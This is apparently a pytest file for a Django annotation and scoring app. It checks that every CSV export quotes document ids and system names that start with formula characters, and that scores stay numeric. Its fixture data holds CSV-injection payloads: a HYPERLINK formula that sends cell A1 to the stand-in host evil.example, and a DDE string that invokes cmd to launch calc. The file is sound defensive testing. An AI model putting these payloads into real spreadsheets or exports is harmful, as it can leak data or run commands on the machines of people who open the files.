"""CSV exports never hand a spreadsheet a formula (issue 26, item 6): document ids and system
names from an imported file that begin with =, +, -, @, a tab or a carriage return come back
quoted in every CSV export, read back from the files written; scores stay numbers."""

import csv
import io
import json

import pytest
from django.core.management import call_command
from django.urls import reverse

from annotation.models import Dataset
from config.csv_cells import FORMULA_START, original_text, safe_cell
from hits.services.dataset_import import import_dataset
from hits.services.simulate import simulate_crowd
from scoring.runs.services import compute_scores

from .conftest import DEMO_ROSE
from .crowd_data import published_batch

pytestmark = pytest.mark.django_db

IDS = ['=HYPERLINK("http://evil.example/?x="&A1,"click")', "+1+2", "@SUM(1+1)*cmd|' /C calc'!A0"]
SYSTEMS = ["-2+3*cmd", "\tTabbed", "\rReturn", "=1+1"]


@pytest.fixture
def hostile(tmp_path):
    lines = DEMO_ROSE.read_text(encoding="utf-8").splitlines()
    out = []
    for i, line in enumerate(lines):
        record = json.loads(line)
        if i < len(IDS):
            record["example_id"] = IDS[i]
        rename = dict(zip(record["system_outputs"], SYSTEMS, strict=False))
        record["system_outputs"] = {rename.get(k, k): v for k, v in record["system_outputs"].items()}
        record["annotations"] = {rename.get(k, k): v for k, v in record.get("annotations", {}).items()}
        out.append(json.dumps(record))
    path = tmp_path / "hostile.jsonl"
    path.write_text("\n".join(out) + "\n", encoding="utf-8")
    import_dataset(path, name="hostile", fmt="rose")
    dataset = Dataset.objects.get(name="hostile")
    batch = published_batch(dataset)
    simulate_crowd(batch, workers=3, accuracy=0.9, seed=3)
    return dataset, batch


def check_cells(rows: list[list[str]], text_columns: list[int]) -> set[str]:
    """Every cell is safe to open; returns the texts of the text columns, unquoted."""
    seen = set()
    for row in rows:
        for cell in row:
            assert not cell.startswith(FORMULA_START), row
        seen.update(original_text(row[i]) for i in text_columns)
    return seen


def test_every_csv_export_neutralises_formulas(hostile, tmp_path, client, lead, eager_celery):
    dataset, batch = hostile
    assert set(IDS) <= set(dataset.documents.values_list("external_id", flat=True))
    assert set(SYSTEMS) <= set(dataset.systems.values_list("name", flat=True))

    # export_judgments, read back from the file it wrote
    path = tmp_path / "judgments.csv"
    call_command("export_judgments", "hostile", "--output", str(path))
    rows = list(csv.reader(path.open(encoding="utf-8", newline="")))
    texts = check_cells(rows[1:], [1, 2])
    assert set(IDS) <= texts and set(SYSTEMS) <= texts
    assert "'=HYPERLINK" in path.read_text(encoding="utf-8")

    # compute_scores --csv, read back
    scores_path = tmp_path / "scores.csv"
    call_command("compute_scores", "hostile", "--resamples", "50", "--csv", str(scores_path))
    rows = list(csv.reader(scores_path.open(encoding="utf-8", newline="")))
    texts = check_cells(rows[1:], [0, 1])
    assert set(IDS) <= texts and set(SYSTEMS) <= texts
    for row in rows[1:]:
        float(row[2]), float(row[3]), int(row[4])  # numbers stay numbers

    # the dashboard's downloads and the API's
    client.force_login(lead)
    judgments = client.get(reverse("dashboard_export", args=[dataset.pk, "judgments.csv"]))
    rows = list(csv.reader(io.StringIO(b"".join(judgments.streaming_content).decode())))
    assert set(IDS) <= check_cells(rows[1:], [1, 2])
    compute_scores(dataset, None, n_resamples=50, trigger="test")
    scores = client.get(reverse("dashboard_export", args=[dataset.pk, "scores.csv"]))
    assert scores.status_code == 200
    assert set(SYSTEMS) <= check_cells(list(csv.reader(io.StringIO(scores.content.decode())))[1:], [0, 1])
    api = client.get(reverse("api_export_judgments", args=[dataset.pk]))
    assert api.status_code == 200
    body = b"".join(api.streaming_content) if api.streaming else api.content
    assert set(IDS) <= check_cells(list(csv.reader(io.StringIO(body.decode())))[1:], [1, 2])


def test_negative_numbers_stay_numbers_and_text_is_quoted():
    assert safe_cell(-0.25) == -0.25 and safe_cell(-3) == -3
    assert safe_cell("-0.25") == "'-0.25"  # text that looks like a number is text
    assert safe_cell("plain") == "plain" and safe_cell("") == ""
